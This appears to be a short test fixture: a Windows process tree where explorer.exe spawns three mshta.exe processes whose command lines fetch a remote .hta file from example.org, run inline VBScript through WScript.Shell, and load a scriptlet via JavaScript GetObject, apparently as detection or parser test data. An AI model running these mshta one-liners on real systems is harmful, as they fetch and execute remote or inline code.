os windows
900 4 ana - C:\Windows\explorer.exe | C:\Windows\Explorer.EXE
+ 901 900 ana - C:\Windows\System32\mshta.exe | "C:\Windows\system32\mshta.exe" https://example.org/x.hta
+ 902 900 ana - C:\Windows\System32\mshta.exe | mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc"":close")
+ 903 900 ana - C:\Windows\SysWOW64\mshta.exe | mshta javascript:a=GetObject("script:x").Exec();close();
